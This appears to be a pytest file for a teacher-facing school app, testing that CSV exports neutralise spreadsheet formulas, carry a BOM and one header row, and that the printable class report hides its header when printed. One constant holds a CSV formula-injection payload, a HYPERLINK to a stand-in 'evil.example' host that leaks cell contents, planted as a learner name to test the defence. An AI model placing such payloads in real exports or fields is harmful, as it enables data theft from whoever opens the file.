"""Exports: the CSV rules (BOM, one header row, ISO dates, formulas neutralised) and the
printable class report, in a real browser with print media."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from selenium.webdriver.common.by import By
from sqlmodel import Session

from mcdesk.server.models import Learner
from mcdesk.server.schools import find_learner
from mcdesk.server.web.tables import csv_text, neutral
from tests.server.web.conftest import TrcServer
from tests.server.web.harness import TeacherBrowser
from tests.server.web.http import signed_in
from tests.server.web.reports_lab import GradedClass

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_a_spreadsheet_would_run_is_text(text: str) -> None:
    assert neutral(text) == "'" + text


def test_other_cells_are_left_as_they_are() -> None:
    assert neutral("Ana Ruiz") == "Ana Ruiz"
    assert neutral("Ana = Ben") == "Ana = Ben"
    assert neutral(-3) == "-3"  # a number we wrote is a number
    assert neutral(2.5) == "2.5"
    assert neutral(True) == "yes"
    assert neutral(None) == ""
    assert neutral(datetime(2026, 12, 7, 9, 5, 1, 123, tzinfo=UTC)) == "2026-12-07T09:05:01+00:00"


def test_a_file_has_a_bom_and_one_header_row() -> None:
    text = csv_text(["name", "n"], [["=x", 1], ["a,b", 2]])
    assert text.startswith("\ufeffname,n\r\n")
    assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff")))) == [
        ["name", "n"],
        ["'=x", "1"],
        ["a,b", "2"],
    ]


def test_a_learner_named_as_a_formula_is_text_in_the_results_csv(
    trc: TrcServer, graded: GradedClass
) -> None:
    with Session(trc.server.engine) as session:
        ben = find_learner(
            session, school_id=graded.school_id, class_name="Welding 1", name="Ben Ode"
        )
        row = session.get(Learner, ben.id)
        assert row is not None
        row.display_name = EVIL
        session.add(row)
        session.commit()
    answer = signed_in(trc).get(
        f"/teacher/classes/{graded.welding_id}/results/sample-pack/results.csv"
    )
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert sorted(r["learner"] for r in rows) == sorted(["Ana Ruiz", "'" + EVIL])


def test_the_class_report_prints_without_the_header(
    browser: TeacherBrowser, trc: TrcServer, graded: GradedClass
) -> None:
    browser.sign_in()
    browser.open(f"/teacher/classes/{graded.welding_id}")
    browser.follow("Printable class report")
    text = browser.text()
    assert "Ana Ruiz" in text
    assert "Ben Ode" in text
    assert "100% · Pass" in text
    assert "0% · Not yet" in text
    assert "Chi Li" not in text  # another class
    driver = browser.driver
    driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": "print"})
    try:
        header = driver.find_element(By.CSS_SELECTOR, "header.top")
        assert not header.is_displayed()
        assert driver.find_element(By.CSS_SELECTOR, "table.report").is_displayed()
    finally:
        driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": ""})
    assert driver.find_element(By.CSS_SELECTOR, "header.top").is_displayed()
